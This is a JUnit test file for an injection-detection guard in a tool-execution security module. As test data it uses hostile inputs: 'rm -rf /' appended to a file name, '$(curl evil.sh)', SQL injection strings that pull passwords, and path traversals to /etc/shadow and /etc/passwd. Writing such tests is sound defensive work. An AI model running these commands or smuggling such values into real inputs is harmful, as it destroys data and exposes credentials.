package me.golemcore.toolexec.security;

import me.golemcore.toolexec.infrastructure.config.ToolExecProperties;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.*;

class InjectionGuardTest {

    private ToolExecProperties properties;
    private InjectionGuard guard;

    @BeforeEach
    void setUp() {
        properties = new ToolExecProperties();
        guard = new InjectionGuard(properties);
    }

    @Test
    void shouldDetectCommandInjection() {
        assertTrue(guard.detectCommandInjection("file.txt; rm -rf /"));
        assertTrue(guard.detectCommandInjection("echo `whoami`"));
        assertTrue(guard.detectCommandInjection("$(curl evil.sh)"));
        assertFalse(guard.detectCommandInjection("list the files in my folder"));
    }

    @Test
    void shouldDetectSqlInjection() {
        assertTrue(guard.detectSqlInjection("' OR 1=1"));
        assertTrue(guard.detectSqlInjection("x UNION SELECT password FROM users"));
        assertFalse(guard.detectSqlInjection("select the best option"));
    }

    @Test
    void shouldDetectPathTraversal() {
        assertTrue(guard.detectPathTraversal("../../etc/shadow"));
        assertTrue(guard.detectPathTraversal("%2e%2e%2fconfig"));
        assertFalse(guard.detectPathTraversal("docs/readme.md"));
    }

    @Test
    void shouldReportThreatPathsInParameterTree() {
        Map<String, Object> parameters = Map.of(
                "query", "safe text",
                "files", List.of("notes.txt", "../../etc/passwd"),
                "options", Map.of("filter", "' OR 1=1"));

        List<InjectionGuard.Threat> threats = guard.scan(parameters);

        assertTrue(threats.contains(new InjectionGuard.Threat("$.files[1]", "path_traversal")));
        assertTrue(threats.contains(new InjectionGuard.Threat("$.options.filter", "sql_injection")));
        assertFalse(threats.stream().anyMatch(t -> t.path().equals("$.query")));
    }

    @Test
    void shouldReportNothingWhenDisabled() {
        properties.getSecurity().setInjectionGuardEnabled(false);

        assertTrue(guard.scan(Map.of("cmd", "; rm -rf /")).isEmpty());
        assertTrue(guard.detectAllThreats("../../etc/passwd").isEmpty());
    }

    @Test
    void shouldIgnoreBlankAndNullInput() {
        assertFalse(guard.detectCommandInjection(null));
        assertFalse(guard.detectSqlInjection("   "));
        assertTrue(guard.scan(null).isEmpty());
    }
}
